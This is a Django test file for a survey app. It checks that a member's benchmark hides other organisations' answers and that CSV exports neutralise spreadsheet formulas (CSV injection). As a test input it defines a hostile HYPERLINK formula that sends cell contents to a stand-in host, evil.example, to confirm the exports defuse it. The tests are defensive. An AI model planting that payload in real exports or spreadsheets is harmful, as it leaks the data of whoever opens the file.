"""Guards that once let a planted bug through unnoticed (issue 13), each pinned through what a person sees.

- a member's benchmark shows only their own organisation's answers and mileposts;
- a member's CSV download and the staff's raw-answers export never hand a spreadsheet a formula, in any cell.

(The transition table: tests/surveys/test_transition_rules.py; the import's all-or-nothing write:
tests/test_atomicity.py.) These tests go through the pages, not the functions behind them, so they keep
biting when those functions are renamed, streamed or moved into a background job.
"""

import csv
import io

import pytest
from django.urls import reverse

from surveys.models import Milepost, Question, Submission, SubmissionMilepost
from tests.factories import (
    MilepostFactory,
    QuestionFactory,
    SubmissionFactory,
    add_submission,
    answer_create,
    build_cycle,
    release_with_values,
    review_questionnaire,
)

pytestmark = pytest.mark.django_db

# What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def body(response) -> str:
    """The response's text, whether it was sent in one piece or streamed."""
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8-sig")


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    return [cell for row in csv.reader(io.StringIO(body(response))) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not formulas, f"cells a spreadsheet would run as formulas: {formulas}"


# --- The member's benchmark: never another organisation's answers ------------------------------------------


@pytest.fixture
def two_members_published(org_a, org_b):
    """2025 published; A and B both approved, with answers and mileposts that only one of them has."""
    cycle = build_cycle(2025)
    secret = Milepost.objects.create(code="alpha_only", area="response", title="SECRET-ALPHA-MILEPOST")
    submission_a = add_submission(
        cycle,
        organization=org_a,
        answers={"safety_by_design": ["formal_reviews"], "image_hashing": ["photodna"]},
        mileposts=["prevention", "detection"],
    )
    SubmissionMilepost.objects.create(submission=submission_a, milepost=secret, description="Done.")
    add_submission(cycle, organization=org_b, answers={"safety_by_design": ["red_teaming"]})
    release_with_values(
        2025,
        {
            "members": 57,
            "mileposts.advanced": 317,
            "safety_by_design.formal_reviews": 49,
            "safety_by_design.red_teaming": 25,
            "image_hashing.photodna": 37,
        },
        denominator=57,
        labels={
            "safety_by_design.formal_reviews": "Formal safety reviews",
            "safety_by_design.red_teaming": "Red teaming",
            "image_hashing.photodna": "Microsoft PhotoDNA",
        },
    )
    return cycle


def test_a_members_benchmark_never_shows_another_members_answers(
    client, member_b, org_b, two_members_published
):
    client.force_login(member_b)

    text = body(client.get(reverse("metrics:member-benchmark", kwargs={"org_slug": org_b.slug})))

    assert text.count('id="year-2025-heading"') == 1  # B's one submission, not A's beside it
    assert '<th scope="row">Red teaming</th><td>Yes</td>' in text
    assert '<th scope="row">Formal safety reviews</th><td>Yes</td>' not in text
    assert '<th scope="row">Microsoft PhotoDNA</th><td>Yes</td>' not in text
    assert "SECRET-ALPHA-MILEPOST" not in text
    assert "You advanced 0 mileposts" in text
    assert "You advanced 3 mileposts" not in text


def _cycle_with_a_text_question():
    """The review questionnaire of 2026 with a short text question `policy_note`, where a formula can be typed."""
    cycle = review_questionnaire(2026)
    QuestionFactory(
        section=cycle.sections.get(),
        cycle=cycle,
        code="policy_note",
        type=Question.Type.SHORT_TEXT,
        required=False,
    )
    return cycle


# --- The member's CSV download: every cell safe, milepost rows included --------------------------------------


def test_the_members_csv_neutralises_formulas_in_answers_and_milepost_rows(lead_client, org_a):
    cycle = _cycle_with_a_text_question()
    submission = SubmissionFactory(organization=org_a, cycle=cycle, status=Submission.Status.DRAFT)
    answer_create(submission, "policy_note", EVIL)
    milepost = MilepostFactory(code="evil_milepost", title="+SUM(1,2)")
    SubmissionMilepost.objects.create(submission=submission, milepost=milepost, description=EVIL)
    url = reverse("surveys:survey-csv", kwargs={"org_slug": org_a.slug, "year": 2026})

    cells = csv_cells(lead_client.get(url))

    assert_no_formula(cells)
    assert sum(cell.endswith(EVIL) for cell in cells) == 2  # the answer and the milepost's description
    assert any(cell.endswith("+SUM(1,2)") for cell in cells)  # the milepost's title, kept but inert


# --- The staff's raw-answers export: every cell safe, the value column included ------------------------------


def test_the_staff_answers_export_neutralises_formulas_in_every_column(reviewer_client, org_a):
    cycle = _cycle_with_a_text_question()
    submission = SubmissionFactory(organization=org_a, cycle=cycle)
    answer_create(submission, "policy_note", EVIL)
    answer_create(submission, "trust_safety_staff", 12)
    evil_org = SubmissionFactory(cycle=cycle, organization__name="@evil Corp").organization
    answer_create(evil_org.submissions.get(), "supplemental_reports", True)

    cells = csv_cells(reviewer_client.get(reverse("surveys:answers-export", args=[2026])))

    assert_no_formula(cells)
    assert any(cell.endswith(EVIL) for cell in cells)
    assert any(cell.endswith("@evil Corp") for cell in cells)
    assert "12" in cells
